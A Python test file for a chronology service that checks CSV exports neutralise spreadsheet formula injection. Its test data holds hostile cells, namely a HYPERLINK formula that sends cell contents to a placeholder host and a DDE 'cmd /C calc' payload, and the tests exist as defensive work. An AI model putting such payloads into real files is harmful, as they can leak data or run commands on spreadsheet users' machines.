"""Every CSV the service writes neutralises cells a spreadsheet would run as formulas.

Rule: OWASP Foundation, "CSV Injection" (community page): no cell may begin
with ``=``, ``+``, ``-``, ``@``, tab or carriage return; prefix a single quote.
Plain numbers are kept as they are (see ``chronology/engine/csv_cells.py``).
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest

from chronology.engine.csv_cells import neutralise, neutralise_fragments
from chronology.engine.curves import curve_to_csv, parse_curve
from chronology.engine.exports import to_csv
from chronology.engine.record_data import ContextData, RelationshipData
from chronology.engine.synthetic_curve import synthetic_curve
from chronology.engine.temporal_graph import OrderPolicy, compile_order

HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"open")'


@pytest.mark.parametrize("cell", ["=1+1", "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", HOSTILE])
def test_a_cell_starting_with_a_formula_character_gets_a_leading_quote(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-12", "-0.5", "+3", "-4.5e-3", "1001", "Trench 1", ""])
def test_plain_numbers_and_ordinary_text_are_kept_as_they_are(cell):
    assert neutralise(cell) == cell


def test_a_free_text_line_is_neutralised_at_every_comma_a_spreadsheet_splits_it_at():
    assert neutralise_fragments("# name: x, =1+1,@A1") == "# name: x, '=1+1,'@A1"


def _order_csv(label: str) -> list[dict]:
    contexts = [ContextData(1, label, "deposit", "Area 1"), ContextData(2, "1002", "deposit", "Area 1")]
    graph = compile_order(contexts, [RelationshipData(1, "above", 1, 2)], OrderPolicy())
    return list(csv.DictReader(io.StringIO(to_csv(graph))))


def test_an_order_export_writes_a_formula_label_as_text():
    rows = _order_csv(HOSTILE)
    assert rows[0]["later_label"] == "'" + HOSTILE


def test_an_order_export_keeps_a_negative_looking_label_that_is_a_plain_number():
    assert _order_csv("-5")[0]["later_label"] == "-5"


def test_a_curve_table_with_a_hostile_name_has_no_cell_that_starts_a_formula():
    curve = replace(synthetic_curve(0, 100, 10), name="Test curve,=cmd|' /C calc'!A0")
    cells = [cell for row in csv.reader(io.StringIO(curve_to_csv(curve))) for cell in row]
    assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "@", "\t", "\r"))]


def test_a_curve_table_with_a_hostile_name_still_reads_back_to_the_same_checksum():
    curve = replace(synthetic_curve(0, 100, 10), name="Test curve,=cmd|' /C calc'!A0")
    assert parse_curve(curve_to_csv(curve)).checksum == curve.checksum


def test_the_order_export_over_http_writes_a_formula_label_as_text(api, project, actor):
    from projects.record import writes

    writes.add_context(project, actor, label="@SUM(A1)", kind="deposit")
    writes.add_context(project, actor, label="1002", kind="deposit")
    writes.add_relationship(project, actor, subject="@SUM(A1)", type="above", object="1002")
    response = api.get("/api/v1/projects/VML24/order/export.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows[0]["later_label"] == "'@SUM(A1)"
